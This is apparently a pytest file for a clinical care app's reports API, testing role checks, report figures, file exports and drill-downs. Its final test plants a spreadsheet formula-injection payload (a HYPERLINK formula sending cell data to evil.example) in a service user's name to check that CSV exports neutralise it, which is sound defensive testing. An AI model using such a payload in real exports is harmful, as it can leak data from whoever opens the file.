"""The reports API: role checks (team leads their teams, auditors all, clinicians and admins 403),
JSON figures that match the report, file downloads and drill-downs."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from carecluster.http import Settings, create_app
from carecluster.service.security import hash_password
from carecluster.store.db import Database, now
from carecluster.store.models import User
from tests.reports.known import build_known
from tests.reports.population import Population

PASSWORD = "reports-test-password"
PERIOD = {"from": "2026-01-01", "to": "2026-06-30"}


@pytest.fixture
def site(db: Database) -> Iterator[tuple[TestClient, Population]]:
    population = build_known(db)
    with db.transaction() as session:
        session.add(User(username="admin", full_name="Admin", role="admin", password_hash="x", created_at=now()))
        session.execute(update(User).values(password_hash=hash_password(PASSWORD)))
    app = create_app(Settings(database_url=db.url))
    with TestClient(app) as client:
        yield client, population
    app.state.db.dispose()


def token(client: TestClient, username: str) -> dict[str, str]:
    response = client.post("/api/v1/token", data={"username": username, "password": PASSWORD})
    assert response.status_code == 200, response.text
    return {"Authorization": f"Bearer {response.json()['access_token']}"}


def test_roles(site: tuple[TestClient, Population]) -> None:
    client, p = site
    lead, auditor = token(client, "lead"), token(client, "auditor")
    for who in ("c1", "admin"):
        assert client.get("/api/v1/reports/completeness", params=PERIOD, headers=token(client, who)).status_code == 403
        assert client.get("/api/v1/reports", headers=token(client, who)).status_code == 403
    assert client.get("/api/v1/reports/completeness", params=PERIOD).status_code == 401

    mine = client.get("/api/v1/reports/completeness", params=PERIOD, headers=lead)
    assert mine.status_code == 200, mine.text
    current = next(m for m in mine.json()["measures"] if m["id"] == "current_cluster")
    assert (current["numerator"], current["denominator"]) == (3, 4)  # team A only
    other = client.get("/api/v1/reports/completeness", params=PERIOD | {"team_id": p.teams["B"]}, headers=lead)
    assert other.status_code == 403

    everyone = client.get("/api/v1/reports/completeness", params=PERIOD, headers=auditor).json()
    current = next(m for m in everyone["measures"] if m["id"] == "current_cluster")
    assert (current["numerator"], current["denominator"]) == (5, 7)
    assert [r["name"] for r in client.get("/api/v1/reports", headers=auditor).json()] == [
        "completeness",
        "timeliness",
        "accuracy",
        "transitions",
        "outcomes",
        "drift",
        "national_proms",
    ]
    assert client.get("/api/v1/reports/nonsense", params=PERIOD, headers=auditor).status_code == 404
    assert (
        client.get(
            "/api/v1/reports/drift", params={"from": "2026-06-30", "to": "2026-01-01"}, headers=auditor
        ).status_code
        == 422
    )


def test_every_report_is_served_in_its_own_transaction(site: tuple[TestClient, Population]) -> None:
    """Each report runs inside the request's write transaction (it is audited): nothing in it
    may open a second connection, which on SQLite would wait on that transaction's lock."""
    client, _ = site
    auditor = token(client, "auditor")
    for name in ("completeness", "timeliness", "accuracy", "transitions", "outcomes", "drift"):
        response = client.get(f"/api/v1/reports/{name}", params=PERIOD, headers=auditor)
        assert response.status_code == 200, (name, response.text[:300])
        assert response.json()["name"] == name


def test_files_and_drill_down(site: tuple[TestClient, Population]) -> None:
    client, p = site
    lead = token(client, "lead")
    response = client.get("/api/v1/reports/timeliness", params=PERIOD | {"format": "csv"}, headers=lead)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert "overdue_reviews,Reviews overdue at the end of the period,all,,All,1,3," in response.text
    html = client.get("/api/v1/reports/drift", params=PERIOD | {"format": "html"}, headers=lead)
    assert html.headers["content-type"].startswith("text/html")
    assert "<title>Local profile drift - carecluster</title>" in html.text
    assert "<svg" in html.text
    xlsx = client.get("/api/v1/reports/accuracy", params=PERIOD | {"format": "xlsx"}, headers=lead)
    assert xlsx.content[:2] == b"PK"

    drill = client.get("/api/v1/reports/timeliness/drill/overdue_reviews", params=PERIOD, headers=lead).json()
    assert drill["total"] == 1
    assert drill["rows"][0]["service_user_id"] == p.people["S7"]
    rest = client.get(
        "/api/v1/reports/completeness/drill/current_cluster",
        params=PERIOD | {"which": "rest", "format": "csv"},
        headers=token(client, "auditor"),
    )
    rows = list(csv.DictReader(io.StringIO(rest.text)))
    assert {r["service_user_id"] for r in rows} == {p.people["S3"], p.people["S5"]}
    assert (
        client.get(
            "/api/v1/reports/completeness/drill/current_cluster", params=PERIOD | {"which": "everything"}, headers=lead
        ).status_code
        == 422
    )
    cell = client.get(
        "/api/v1/reports/transitions/drill/moves",
        params=PERIOD | {"dimension": "cluster", "key": "10", "from_cluster": "11"},
        headers=token(client, "auditor"),
    ).json()
    assert (cell["total"], cell["from_cluster"], cell["rows"][0]["service_user_id"]) == (1, 11, p.people["S2"])
    assert (
        client.get(
            "/api/v1/reports/transitions/drill/moves", params=PERIOD | {"from_cluster": "22"}, headers=lead
        ).status_code
        == 422
    )


def test_csv_exports_neutralise_formulas_in_names(site: tuple[TestClient, Population], db: Database) -> None:
    """A service user named like a formula: the API and web drill-down CSV show it, never run it."""
    from carecluster.store import repository as repo
    from carecluster.store.models import ServiceUser

    client, p = site
    with db.transaction() as session:
        old = repo.current(session, ServiceUser, p.people["S3"], lock=True)
        assert old is not None
        repo.amend(session, old, p.user, "test", {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")'})
    auditor = token(client, "auditor")
    params = PERIOD | {"which": "rest", "format": "csv"}
    api = client.get("/api/v1/reports/completeness/drill/current_cluster", params=params, headers=auditor)
    names = {r["service_user_id"]: r["name"] for r in csv.DictReader(io.StringIO(api.text))}
    assert names[p.people["S3"]] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert all(not name.startswith(("=", "+", "-", "@")) for name in names.values())
